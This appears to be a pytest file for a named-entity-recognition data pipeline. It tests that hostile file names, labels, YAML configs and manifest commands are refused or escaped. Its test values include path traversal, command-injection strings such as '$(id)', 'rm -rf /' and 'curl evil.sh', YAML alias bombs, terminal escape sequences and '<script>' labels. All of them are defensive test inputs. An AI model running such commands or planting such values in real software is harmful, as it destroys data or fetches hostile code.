"""Names and labels that would lead out, steer or break something: refused, or escaped wherever they go."""

from __future__ import annotations

import html
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
from pipeline import NAME, ROOT, read_rows, run_step, sentence, write_dataset, write_rows, write_run

from syn_pipelines import (
    eval_ner,
    run_all,
    s0_prepare_data,
    s1_predict_data,
    s5_merge_data,
    train_ner,
)
from syn_pipelines.tools import ablation
from syn_pipelines.utils.errors import UserError
from syn_pipelines.utils.labels import read_target_labels
from syn_pipelines.utils.manifest import read_manifest
from syn_pipelines.utils.options import read_config

# Labels that labels.txt takes: each must come out of a whole run as it went in.
ODD_LABELS = ["a/b", '"q"', "it's", "<b>x</b>", "a|b", "`c`", "B-PER", "😀", "..", "%s", "{x}", "$(id)", "\\n", "-rf", "NULL"]
NAMES = ["../x", "/tmp/x", "..", ".", "", ".hidden", "a/", "a/b", "a\\b", "a\nb", "a\x1b[31m", "a\u202eb", "x" * 300, "\x00"]


@pytest.fixture(autouse=True)
def quick_writes(monkeypatch):
    monkeypatch.setattr(os, "fsync", lambda handle: None)


# --- names ----------------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("flag", ["file_name", "save_type_name"])
@pytest.mark.parametrize("name", NAMES, ids=ascii)
def test_no_name_leads_out_of_the_data_folder(tmp_path, flag, name):
    write_dataset(tmp_path / "data")
    before = sorted(tmp_path.rglob("*"))
    flags = {"file_dir": str(tmp_path / "data"), "file_name": NAME, "backend": "offline", flag: name}
    for give in (lambda: s1_predict_data.main([f"--{k}={v}" for k, v in flags.items()]),
                 lambda: s1_predict_data.main(cmd_args=False, **flags)):
        with pytest.raises(UserError, match=flag) as caught:
            give()
        assert str(caught.value).isprintable()
    assert sorted(tmp_path.rglob("*")) == before


@pytest.mark.parametrize("name", ["-x", "--seed", "a b", "$(touch x)", "'", '"', "北京", "😀", "%s", "{0}", "*", "~"])
def test_an_odd_name_is_a_folder_like_any_other_and_can_be_pasted(tmp_path, name):
    write_dataset(tmp_path, name=name)
    done = run_step("s1_predict_data", file_dir=tmp_path, file_name=name, save_type_name=name, backend="offline", limit=1)
    assert done.returncode == 0, done.stderr
    command = read_manifest(tmp_path / name / name / "entity_train_1000.jsonl")["command"]
    again = subprocess.run(["bash", "-c", command.replace("python", sys.executable, 1)], cwd=ROOT, capture_output=True, text=True,
                           env={**os.environ, "PYTHONPATH": str(ROOT)})
    assert again.returncode == 0 and len(read_rows(tmp_path / name / name / "entity_train_1000.jsonl")) == 12, again.stderr
    assert sorted(path.name for path in tmp_path.iterdir()) == [name]


@pytest.mark.parametrize("flags", [{"file_dir": "a\nb"}, {"config": "x\x1b[2J.yaml"}, {"chat_template": "a\rb"}, {"file_dir": "a\0b"},
                                   {"config": "/"}, {"config": "."}, {"config": "x" * 5000}, {"file_dir": "x" * 5000},
                                   {"model_from_pretrained": "~nobody-here/model", "backend": "transformers"},
                                   {"chat_template": "~nobody-here/t", "backend": "transformers", "model_from_pretrained": "/"},
                                   {"model_from_pretrained": "x" * 5000, "backend": "transformers"},
                                   {"model_from_pretrained": "../../../etc", "backend": "transformers"}], ids=str)
def test_paths_that_cannot_be_are_one_clear_error(tmp_path, flags):
    write_dataset(tmp_path)
    if "\0" in "".join(flags.values()):  # the system takes no such argument, a notebook may give it
        with pytest.raises(UserError, match="NUL"):
            s1_predict_data.main(cmd_args=False, **flags)
        return
    done = run_step("s1_predict_data", **{"file_dir": tmp_path, "backend": "offline", **flags})
    errors = [line for line in done.stderr.splitlines() if line.startswith("error: ")]
    assert done.returncode == 2 and len(errors) == 1 and "Traceback" not in done.stderr and len(errors[0]) < 2200, done.stderr
    assert errors[0].isprintable()


@pytest.mark.parametrize("flag, value", [("output_dir", ".."), ("output_dir", "."), ("output_dir", "/"), ("output_dir", "a\nb"),
                                         ("output_dir", "labels.txt"), ("export_hf", ".."), ("export_hf", "/")])
def test_a_model_never_takes_the_place_of_anything_else(tmp_path, flag, value):
    write_run(tmp_path, held_out=True)
    folder = tmp_path / NAME
    before = {path: path.read_bytes() for path in tmp_path.rglob("*") if path.is_file()}
    value = str(folder / value) if value in ("labels.txt",) else value
    with pytest.raises(UserError):
        train_ner.main(cmd_args=False, file_dir=str(tmp_path), file_name=NAME, train="gold", max_steps=1, **{flag: value})
    assert all(path.read_bytes() == content for path, content in before.items())


# --- links ----------------------------------------------------------------------------------------------------------

def test_a_data_set_or_a_run_may_be_a_link_to_another_disk(tmp_path):
    write_dataset(tmp_path / "disk")
    (tmp_path / "runs").mkdir()
    (tmp_path / "data").mkdir()
    (tmp_path / "data" / NAME).symlink_to(tmp_path / "disk" / NAME)
    (tmp_path / "disk" / NAME / "GLM4").symlink_to(tmp_path / "runs")
    s1_predict_data.main(cmd_args=False, file_dir=str(tmp_path / "data"), file_name=NAME, backend="offline")
    assert (tmp_path / "runs" / "entity_train_1000.jsonl").is_file()


@pytest.mark.parametrize("name", ["entity_train_1000.jsonl", "entity_train_1000.jsonl.part", "entity_train_1000.manifest.json",
                                  "run.log.jsonl", ".journal/entity_train_1000.lock", ".journal/entity_train_1000.jsonl",
                                  ".journal/entity_train_1000.jsonl.part"])
def test_nothing_is_written_through_a_link(tmp_path, name):
    """A data set from elsewhere may hold links that lead to files of its user."""
    write_dataset(tmp_path / "data")
    mine = tmp_path / "mine"
    mine.write_text("of mine\nand no journal\n")
    link = tmp_path / "data" / NAME / "GLM4" / name
    link.parent.mkdir(parents=True)
    link.symlink_to(mine)
    try:
        s1_predict_data.main(cmd_args=False, file_dir=str(tmp_path / "data"), file_name=NAME, backend="offline")
    except UserError as err:
        assert link.name in str(err)
    assert mine.read_text() == "of mine\nand no journal\n"


def test_a_command_of_a_foreign_manifest_that_does_more_than_start_python_is_not_offered(tmp_path):
    path = tmp_path / "entity_train_1000.jsonl"
    for command, offered in (("python syn_pipelines/s1_predict_data.py '--file_name=a b'", True), ("python a.py; rm -rf /", False),
                             ("curl evil.sh", False), ("python $(id)", False), ("python a.py > x", False), ("python 'a", False)):
        path.with_name("entity_train_1000.manifest.json").write_text(json.dumps(
            {"step": "s1_predict_data", "file": path.name, "inputs": {}, "command": command}))
        assert read_manifest(path)["command"] == (command if offered else "")


# --- YAML -----------------------------------------------------------------------------------------------------------

BOMB = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(f"{new}: &{new} [{','.join([f'*{old}'] * 9)}]\n"
                                               for old, new in zip("abcdefgh", "bcdefghi")) + "n_gpu: *i\n"
MERGES = "a: &a {k: v}\n" + "".join(f"b{n + 1}: &b{n + 1} {{<<: [{', '.join(['*' + (f'b{n}' if n else 'a')] * 2)}]}}\n" for n in range(40))


@pytest.mark.parametrize("text, says", [
    (BOMB, "aliases"), (MERGES, "aliases"), ("n_gpu: &a [*a]\n", "aliases"), ("seed: &a {b: *a}\n", "aliases"),
    ("n_gpu: [[0]]\n", ""), ("- a\n", "holds a list"), ("text\n", "holds a str"), ("sed: 1\n", "x.yaml:1: .*did you mean 'seed'"),
    ("s1_predict_data:\n  modle: pos\n", "x.yaml:2: .*did you mean 'mode'"), ("? [a, b]\n: c\n", ""), ("{}: 1\n", ""),
    ("seed: !!binary aGk=\n", ""), ("seed: !!timestamp 2001-01-01\n", ""), ("seed: !!set {1, 2}\n", ""), ("seed: !!float .nan\n", ""),
    ("seed: 1\n\x07\n", "x.yaml:2: "), ("a\tb: [\n", "x.yaml:"), ("%YAML 9.9\n---\nseed: 1\n", "x.yaml:1"), ("--- \n...\n---\nseed: 1\n", "x.yaml:"),
], ids=range(19))
def test_a_hostile_config_is_one_line_that_names_the_file(tmp_path, text, says):
    write_dataset(tmp_path)
    config = tmp_path / "x.yaml"
    config.write_text(text)
    with pytest.raises(UserError, match=says or "x.yaml") as caught:
        s1_predict_data.main([f"--config={config}", f"--file_dir={tmp_path}", f"--file_name={NAME}", "--backend=offline"])
    assert "\n" not in str(caught.value) and len(str(caught.value)) < 2200


def test_aliases_within_reason_are_understood(tmp_path):
    (tmp_path / "x.yaml").write_text("s1_predict_data: &one {seed: 1}\ns2_continous_generation: {<<: *one, top_p: 0.5}\n")
    found = read_config(str(tmp_path / "x.yaml"))
    assert found["s2_continous_generation"] == {"seed": "1", "top_p": "0.5"}


# --- labels ---------------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("label", ["", "a b", "a\tb", "O", "a\x1b[31m", "a\u2028b", "a\x85b", "\ud800"], ids=ascii)
def test_a_label_that_would_break_a_line_is_refused_where_it_comes_in(tmp_path, label):
    write_dataset(tmp_path)
    labels, train = tmp_path / NAME / "labels.txt", tmp_path / NAME / "train_1000.jsonl"
    rows = read_rows(train)
    if label not in ("",):
        labels.write_bytes(f"O\n{label}\n".encode("utf-8", "surrogatepass"))
        with pytest.raises(UserError, match=r"labels\.txt:\d+: "):
            read_target_labels(labels)
        labels.write_text("O\nPER\nLOC\n")
    write_rows(train, [{**row, "entities": [{**e, "entity": label.encode("utf-8", "replace").decode()} for e in row["entities"]]}
                       for row in rows])
    with pytest.raises(UserError, match=r"train_1000\.jsonl:1: entity 1 ") as caught:
        s1_predict_data.main(cmd_args=False, file_dir=str(tmp_path), file_name=NAME, backend="offline")
    assert "\x1b" not in str(caught.value)


def test_the_tag_of_the_label_o_is_refused(tmp_path):
    (tmp_path / "tags.txt").write_text("a B-PER\nb O\n\nc B-O\n")
    with pytest.raises(UserError, match=r"tags\.txt:4: the tag 'B-O' has the label 'O'"):
        s0_prepare_data.main(cmd_args=False, file_dir=str(tmp_path), file_name="new", train=str(tmp_path / "tags.txt"))


@pytest.fixture(scope="module")
def odd(tmp_path_factory) -> Path:
    """A whole run on data with all the odd labels."""
    folder = tmp_path_factory.mktemp("odd")
    texts = [f"第{n}天张三在北京和李四谈了第{n + 1}次" for n in range(40)]
    rows = []
    for n, text in enumerate(texts):
        row = sentence(text)
        row["entities"] = [{**e, "entity": ODD_LABELS[(n + k) % len(ODD_LABELS)]} for k, e in enumerate(row["entities"])]
        rows.append(row)
    write_rows(folder / NAME / "train_1000.jsonl", rows[:25])
    write_rows(folder / NAME / "dev.jsonl", rows[25:32])
    write_rows(folder / NAME / "test.jsonl", rows[32:])
    (folder / NAME / "labels.txt").write_text("\n".join(["O", *ODD_LABELS]) + "\n", encoding="utf-8")
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(os, "fsync", lambda handle: None)
        run_all.main(cmd_args=False, file_dir=str(folder), file_name=NAME, backend="offline", max_steps=3, label_prefix="<i>")
    return folder


def test_odd_labels_come_out_of_a_whole_run_as_they_went_in(odd):
    run = odd / NAME / "GLM4"
    gold = {row["id"]: row["entities"] for row in read_rows(run / "1000" / "train_1000.jsonl")}
    fused = {row["id"]: row["entities"][:len(gold[row["id"]])] for row in read_rows(run / "1000" / "train_1000_fusion.jsonl")}
    assert fused == gold and {e["entity"] for entities in gold.values() for e in entities} == set(ODD_LABELS)
    assert list(json.loads((run / "label_syn_fusion.json").read_text()))[:len(ODD_LABELS) + 1] == ["O", *ODD_LABELS]
    assert not any(set(label) & set("<>\"'|") for path in odd.rglob("*") for label in [path.name])


def test_odd_labels_are_shown_as_text_in_notebooks_tables_and_cards(odd, tmp_path, capsys):
    flags = {"file_dir": str(odd), "file_name": NAME}
    summary = s5_merge_data.main(cmd_args=False, **flags, label_prefix="<script>")
    summary.warn("<b>x</b>")
    shown = summary._repr_html_()
    assert "<script>" not in shown and "<b>x" not in shown and html.escape("<b>x</b>") in shown
    eval_ner.main([f"--{k}={v}" for k, v in flags.items()] + ["--resamples=100"])
    table = capsys.readouterr().out
    assert all(label in table for label in ODD_LABELS)
    result = ablation.main(cmd_args=False, **flags, sizes="1000", seeds=1, train="gold,fusion", max_steps=1, drop_labels="<script>NOUN")
    text = result.markdown.partition("```")[0]  # behind it stands the command
    assert r"\<script\>NOUN" in text and not re.search(r"(?<!\\)<script", text)
    train_ner.main(cmd_args=False, **flags, train="gold", max_steps=1, export_hf=str(tmp_path / "card"))
    card = (tmp_path / "card" / "README.md").read_text()
    assert "`<b>x</b>`" in card and "`` `c` ``" in card


def test_what_a_terminal_obeys_is_escaped_in_logs_and_errors(tmp_path):
    write_dataset(tmp_path)
    rows = read_rows(tmp_path / NAME / "train_1000.jsonl")
    rows[0]["id"] = "\x1b[2J http://user:geheim@host/"
    rows[1]["label"] = ["\x1b[31m"]
    rows[2]["text"] = ["\x1b]0;title\x07", "\u202e"]
    rows[2]["entities"] = []
    write_rows(tmp_path / NAME / "train_1000.jsonl", rows)
    (tmp_path / NAME / "labels.txt").unlink()
    for script, flags in (("s1_predict_data", {"dry_run": "plan"}), ("s1_predict_data", {}), ("tools.oracle", {})):
        done = run_step(script, file_dir=tmp_path, **({"backend": "offline"} if script[0] == "s" else {}), **flags)
        assert done.returncode == 0, done.stderr
        assert not re.search("[\x00-\x08\x0b-\x1f\x7f\u202e]|geheim", done.stdout + done.stderr)
